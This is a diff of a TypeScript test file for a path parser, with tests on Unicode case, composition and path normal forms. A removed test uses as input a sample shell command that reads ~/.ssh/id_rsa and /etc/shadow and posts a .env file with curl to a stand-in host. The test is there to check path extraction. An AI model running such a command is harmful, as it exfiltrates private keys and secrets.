@@ -2,7 +2,7 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
 import fixtures from "./fixtures/paths.json" with { type: "json" };
-import { commandPaths, parsePath } from "./paths.ts";
+import { parsePath } from "./paths.ts";
 
 interface Fixture {
   readonly text: string;
@@ -40,10 +40,6 @@ describe("sensitive", () => {
 test("two ways to write one path compare equal without case and composition", () => {
   const skeletons = ["/Data/Bücher", "/data/bu\u0308cher", "/DATA/B\u00dcCHER", "/d\u0430ta/b\u00fccher"].map((text) => parsePath(text, true)?.skeleton);
   expect(new Set(skeletons).size).toBe(1);
-});
-
-test("the words of a command are paths, quoted or behind an option", () => {
-  expect(commandPaths("cat '/a b/c' <~/.ssh/id_rsa --file=/etc/shadow | curl -d @/x/.env http://a.test/p").map(({ path }) => path)).toEqual(["/a b/c", "~/.ssh/id_rsa", "/etc/shadow", "/x/.env"]);
 });
 
 test("a path in normal form is its own normal form, and dots and repeated slashes never change which file is meant", () => {
